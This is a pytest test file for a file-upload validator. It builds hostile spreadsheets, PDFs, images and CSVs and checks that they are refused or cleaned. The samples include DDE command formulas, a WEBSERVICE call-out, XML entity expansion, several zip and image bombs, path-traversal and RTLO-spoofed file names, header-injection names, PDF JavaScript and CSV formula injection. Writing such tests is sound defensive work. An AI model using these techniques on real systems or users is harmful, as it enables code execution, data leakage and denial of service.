"""Files that are taken, and files that are not what they say or hold more than they show."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from io import BytesIO

import openpyxl
import pytest
import xlsxwriter

from chungtay.lib.problems import Problem
from chungtay.lib.uploads import KINDS, checked, clean_name, harmless, rows

MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass
class Sent:
    name: str
    data: bytes
    taken: int = 0

    def read(self, size: int = -1, /) -> bytes:
        self.taken = min(size, len(self.data))
        return self.data[: self.taken]


def workbook(*, link: str = "") -> bytes:
    out = BytesIO()
    with xlsxwriter.Workbook(out) as book:
        sheet = book.add_worksheet()
        sheet.write_string(0, 0, "=1+1")
        sheet.write_comment(0, 0, "ghi chú")
        if link:
            sheet.write_url(1, 0, link)
    return out.getvalue()


def zipped(
    *more: tuple[str, str | bytes], said: str = MAIN, method: int = zipfile.ZIP_DEFLATED
) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr("[Content_Types].xml", f'<Types><Override ContentType="{said}"/></Types>')
        archive.writestr("xl/workbook.xml", "<workbook/>")
        for name, content in more:
            archive.writestr(name, content)
    return out.getvalue()


def sheet(content: str) -> bytes:
    return zipped(("xl/worksheets/sheet1.xml", content))


def rel(attributes: str) -> bytes:
    return zipped(
        (
            "xl/_rels/workbook.xml.rels",
            f"<Relationships><Relationship {attributes}/></Relationships>",
        )
    )


def pdf(body: bytes = b"") -> bytes:
    return b"%PDF-1.7\n" + body + b"\ntrailer <<>>\n%%EOF\n"


def packed(body: bytes) -> bytes:
    return b"<</Type/ObjStm/Filter/FlateDecode>>stream\n" + zlib.compress(body) + b"\nendstream"


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int = 2, height: int = 2) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 6)) + chunk(b"IEND", b"")
    )  # fmt: skip


def jpeg(height: int = 2, width: int = 2) -> bytes:
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 9, 8, height, width, 0)
    return b"\xff\xd8\xff\xe0\x00\x04ab" + frame + b"\xff\xda\x00\x02words\xff\xd9"


def liar() -> bytes:
    """Ten megabytes that the directory and the head of the part call ten bytes."""
    data = bytearray(zipped(("xl/worksheets/sheet1.xml", b"0" * 10_000_000)))
    size = struct.pack("<I", 10_000_000)
    while (at := data.find(size)) >= 0:
        data[at : at + 4] = struct.pack("<I", 10)
    return bytes(data)


def many() -> bytes:
    return zipped(*((f"xl/p{n}.xml", "") for n in range(2_100)))


def overlapping() -> bytes:
    """Two entries of the directory that read the same bytes."""
    data = zipped(("xl/a1.xml", b"0" * 900_000), ("xl/b1.xml", b"1"))
    start = data.rfind(b"PK\x01\x02")
    return data[: start + 42] + struct.pack("<I", data.find(b"PK\x03\x04")) + data[start + 46 :]


GOOD = {
    "a workbook of XlsxWriter": ("Sổ.xlsx", workbook()),
    "a workbook with a web link": ("so.xlsx", workbook(link="https://vi.wikipedia.org/")),
    "a letter in PDF": ("Công văn 12.pdf", pdf(packed(b"<</Type/Page>>"))),
    "a scan": ("quét.png", png()),
    "a photograph": ("anh.JPEG", jpeg()),
    "a table": ("ds.csv", "họ tên;tuổi\nĐặng H’Linh;8\n".encode()),
    "a table of Excel in UTF-16": ("ds.csv", "a\tb\n".encode("utf-16")),
}
BAD: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "nothing": ("a.pdf", lambda: b"", "trống"),
    "a program": ("a.pdf", lambda: b"MZ\x90\x00" + b"\0" * 100, "UTF-8"),
    "a page": ("a.pdf", lambda: b"<html><script>alert(1)</script></html>", "nội dung là csv"),
    "a workbook called a picture": ("a.png", workbook, "nội dung là xlsx"),
    "a picture called a workbook": ("a.xlsx", png, "nội dung là png"),
    "a page named to look like a picture": ("a.png\u202e.html", png, "nội dung là png"),
    "macros": ("a.xlsx", lambda: zipped(("xl/vbaProject.bin", b"x")), "macro"),
    "macros by type": (
        "a.xlsx",
        lambda: zipped(said="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        "macro",
    ),
    "old macros": ("a.xlsx", lambda: zipped(("xl/macrosheets/s1.xml", "<a/>")), "macro"),
    "a Word paper": ("a.xlsx", lambda: zipped(said="wordprocessingml"), "Chỉ nhận"),
    "a link to another workbook": (
        "a.xlsx",
        lambda: zipped(("xl/externalLinks/externalLink1.xml", "<a/>")),
        "liên kết",
    ),
    "an outside template": (
        "a.xlsx",
        lambda: rel(f'Type="{RELS}/attachedTemplate" Target="http://x.vn/a" TargetMode="External"'),
        "liên kết",
    ),
    "an outside picture, spelt in numbers": (
        "a.xlsx",
        lambda: rel('Type="a/image" Target="http://x.vn/a" TargetMode="&#69;xternal"'),
        "liên kết",
    ),
    "a link to a shared folder": (
        "a.xlsx",
        lambda: rel(f'Type="{RELS}/hyperlink" Target="file://x/a" TargetMode="External"'),
        "liên kết",
    ),
    "an embedded object": ("a.xlsx", lambda: zipped(("xl/embeddings/o.docx", b"x")), "liên kết"),
    "DDE in a cell": ("a.xlsx", lambda: sheet("<c><f>cmd|'/c calc'!A0</f></c>"), "liên kết"),
    "DDE, spelt in numbers": ("a.xlsx", lambda: sheet("<f>cmd&#124;'/c calc'!A0</f>"), "liên kết"),
    "a cell that calls out": (
        "a.xlsx",
        lambda: sheet('<f>WEBSERVICE("http://x.vn/"&amp;A1)</f>'),
        "liên kết",
    ),
    "a billion laughs": (
        "a.xlsx",
        lambda: sheet('<!DOCTYPE z [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><z>&b;</z>'),
        "thực thể",
    ),
    "entities in another encoding": (
        "a.xlsx",
        lambda: zipped(("xl/s.xml", '<?xml version="1.0"?><!DOCTYPE z>'.encode("utf-16"))),
        "hỏng",
    ),
    "a zip bomb": ("a.xlsx", lambda: zipped(("xl/s.xml", b"0" * 90_000_000)), "nén quá nhiều"),
    "a bomb in two parts": (
        "a.xlsx",
        lambda: zipped(*((f"xl/s{n}.xml", b"0" * 60_000_000) for n in (1, 2))),
        "nén quá nhiều",
    ),
    "a bomb that lies of its size": ("a.xlsx", liar, "hỏng"),
    "a bomb of one part read often": ("a.xlsx", overlapping, "hỏng"),
    "thousands of parts": ("a.xlsx", many, "nén quá nhiều"),
    "a path out": ("a.xlsx", lambda: zipped(("../../etc/cron.d/x", "x")), "hỏng"),
    "a path from the root": ("a.xlsx", lambda: zipped(("/etc/passwd", "x")), "hỏng"),
    "a path of Windows": ("a.xlsx", lambda: zipped(("..\\x.xml", "x")), "hỏng"),
    "half a workbook": ("a.xlsx", lambda: workbook()[:2_000], "hỏng"),
    "a PDF that runs": ("a.pdf", lambda: pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), "lệnh"),
    "a PDF that hides its run": ("a.pdf", lambda: pdf(b"<</S/Java#53cript>>"), "lệnh"),
    "a PDF that packs its run": ("a.pdf", lambda: pdf(packed(b"<</S/JavaScript>>")), "lệnh"),
    "a PDF bomb": ("a.pdf", lambda: pdf(packed(b"0" * 50_000_000)), "nén quá nhiều"),
    "a locked PDF": ("a.pdf", lambda: pdf(b"<</Encrypt 5 0 R>>"), "mật khẩu"),
    "half a PDF": ("a.pdf", lambda: b"%PDF-1.7 <<>>", "hỏng"),
    "a picture with a tail": ("a.png", lambda: png() + b"PK\x03\x04", "hỏng"),
    "a picture with a wrong sum": ("a.png", lambda: png()[:-1] + b"\0", "hỏng"),
    "a picture of a billion points": ("a.png", lambda: png(40_000, 40_000), "nén quá nhiều"),
    "a photograph of a billion points": ("a.jpg", lambda: jpeg(60_000, 60_000), "nén quá nhiều"),
    "half a photograph": ("a.jpg", lambda: jpeg()[:-4], "hỏng"),
    "a photograph without a frame": ("a.jpg", lambda: b"\xff\xd8\xff\xd9", "hỏng"),
    "a table in an old encoding": ("a.csv", lambda: b"h\xf4 t\xean", "UTF-8"),
    "a table with control signs": ("a.csv", lambda: b"a,b\n\x00,1\n", "UTF-8"),
    "a table of one endless row": ("a.csv", lambda: b"a," * 1_000, "nén quá nhiều"),
    "a quote that never ends": ("a.csv", lambda: b'a,"b\n', "hỏng"),
    "too large": ("a.csv", lambda: b"a," * 100_000, "quá lớn"),
}  # fmt: skip


@pytest.mark.parametrize("what", GOOD)
def test_good_files_are_taken(what: str) -> None:
    name, data = GOOD[what]
    upload = checked(Sent(name, data))
    assert upload.data == data
    assert len(upload.sha256) == 64


@pytest.mark.parametrize("what", BAD)
def test_others_are_refused_in_words(what: str) -> None:
    name, make, told = BAD[what]
    most = 100_000 if what == "too large" else 5_000_000
    with pytest.raises(Problem) as refusal:
        checked(Sent(name, make()), most_bytes=most)
    assert told in refusal.value.vi
    assert refusal.value.en.endswith(".")


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_bytes_in_disorder_are_refused_and_never_an_error(kind: str) -> None:
    makers = {"xlsx": workbook, "pdf": pdf, "png": png, "jpg": jpeg, "csv": lambda: b"a;b\n"}
    good = makers[kind]()
    for at in range(0, len(good), max(1, len(good) // 200)):
        spoilt = good[:at] + bytes([good[at] ^ 0xFF]) + good[at + 1 :]
        with suppress(Problem):
            checked(Sent(f"a.{kind}", spoilt))


def test_only_the_kinds_asked_for() -> None:
    with pytest.raises(Problem, match="Chỉ nhận"):
        checked(Sent("a.png", png()), kinds={"pdf"})


def test_no_more_is_read_than_is_taken() -> None:
    sent = Sent("a.csv", b"a" * 1_000_000)
    with pytest.raises(Problem):
        checked(sent, most_bytes=1_000)
    assert sent.taken == 1_001


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("Kế hoạch số 12.pdf", "Kế hoạch số 12.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\a\\quét.pdf", "quét.pdf"),
        ('a"; filename=x.exe\r\nSet-Cookie: a.pdf', "a__ filename_x.exeSet-Cookie_ a.pdf"),
        ("anh\u202egpj.exe.pdf", "anhgpj.exe.pdf"),
        (".pdf", "tep.pdf"),
        ("a" * 300 + ".pdf", "a" * 116 + ".pdf"),
        ("<script>.pdf", "_script_.pdf"),
    ],
)
def test_names_lose_what_could_do_harm(given: str, kept: str) -> None:
    assert clean_name(given, "pdf") == kept


def test_a_formula_in_a_table_stays_text() -> None:
    read = list(rows(b'"=HYPERLINK(""http://x"")",+1\n'))
    assert read == [['=HYPERLINK("http://x")', "+1"]]
    assert [harmless(cell) for cell in read[0]] == ['\'=HYPERLINK("http://x")', "'+1"]
    assert [harmless(cell) for cell in ("Lê Minh", " =1", "＝1", "\t=1", "@a", "")] == [
        "Lê Minh", "' =1", "'＝1", "'\t=1", "'@a", ""]  # fmt: skip


def test_a_taken_workbook_opens_elsewhere() -> None:
    upload = checked(Sent("a.xlsx", workbook()))
    assert openpyxl.load_workbook(io.BytesIO(upload.data)).active["A1"].value == "=1+1"
